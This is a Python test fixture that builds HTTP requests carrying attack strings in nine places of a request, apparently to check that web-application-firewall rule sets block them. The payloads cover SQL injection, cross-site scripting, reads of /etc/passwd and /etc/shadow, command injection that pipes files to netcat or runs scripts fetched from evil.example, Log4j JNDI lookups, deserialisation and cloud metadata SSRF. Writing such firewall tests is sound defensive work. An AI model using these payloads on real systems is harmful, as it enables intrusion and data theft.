# SPDX-License-Identifier: Apache-2.0
"""
Classes of attack and the places of a request: each class must be blocked in each place, by the rule sets aws+crs.
cases() gives (name, request) for all of them.
"""
import html
import json
import urllib.parse

ATTACKS = {
    "SQL injection": ["1' union select password from users-- ", "1' or '1'='1'--", "1; drop table users--", "1' and sleep(5)#"],
    "cross-site scripting": ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(document.cookie)"],
    "file inclusion": ["../../../../etc/passwd", "/etc/passwd", "..%2f..%2f..%2fetc/shadow", "../../WEB-INF/web.xml"],
    "command injection": [";cat /etc/passwd|nc 10.0.0.1 4444", "$(whoami)", "`wget http://evil.example/x.sh`", "; curl http://evil.example/x | sh"],
    "Log4j": ["${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://evil.example/a}"],
    "Java deserialisation": ["(java.lang.Runtime).getRuntime().exec(\"whoami\")", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "java.lang.ProcessBuilder"],
    "metadata SSRF": ["http://169.254.169.254/latest/meta-data/iam/", "http://169.254.169.254/"],
}

# Spellings for paths beside those above: most of those have slashes and dots that the gateway refuses as ambiguous before anybody looks at them.
PATHS = {
    "file inclusion": ["WEB-INF/web.xml", ".env"],
    "command injection": ["a|whoami", "`id`"],
    "Log4j": ["${jndi:dns:evil.example}"],
    "metadata SSRF": ["169.254.169.254", "latest/meta-data/iam"],
}


def request(target, headers=(), body=None):
    """A request for `target`, with a body a POST; as bytes."""
    lines = ["%s %s HTTP/1.1" % ("GET" if body is None else "POST", target), "Host: api.bank.example",
             "User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/145.0", "Accept: application/json", *headers]
    if body is not None:
        lines.append("Content-Length: %d" % len(body.encode()))
    return "\r\n".join(lines + ["", ""]).encode() + (body or "").encode()


def multipart(text):
    return '--BOUNDARY\r\nContent-Disposition: form-data; name="note"\r\n\r\n%s\r\n--BOUNDARY--\r\n' % text


PLACES = {
    "the query": lambda base, text: request(base + "?q=" + urllib.parse.quote(text, safe="")),
    "the path": lambda base, text: request(base + "/" + urllib.parse.quote(text, safe="/:;$(){}")),
    "a header": lambda base, text: request(base, ["X-Api-Data: " + text]),
    "the referer": lambda base, text: request(base, ["Referer: " + text]),
    "a cookie": lambda base, text: request(base, ["Cookie: session=" + urllib.parse.quote(text, safe="'/:=()<>${}|`")]),
    "a form": lambda base, text: request(base, ["Content-Type: application/x-www-form-urlencoded"], "q=" + urllib.parse.quote(text, safe="")),
    "multipart": lambda base, text: request(base, ["Content-Type: multipart/form-data; boundary=BOUNDARY"], multipart(text)),
    "JSON": lambda base, text: request(base, ["Content-Type: application/json"], json.dumps({"a": {"note": [1, text]}})),
    "XML": lambda base, text: request(base, ["Content-Type: application/xml"], "<a><b>%s</b></a>" % html.escape(text, quote=False)),
}


def cases(base):
    for kind, texts in ATTACKS.items():
        for place, build in PLACES.items():
            for number, text in enumerate(texts, 1):
                yield "%s %d in %s" % (kind, number, place), build(base, text)
        for number, text in enumerate(PATHS.get(kind, []), 1):
            yield "%s, path %d" % (kind, number), PLACES["the path"](base, text)
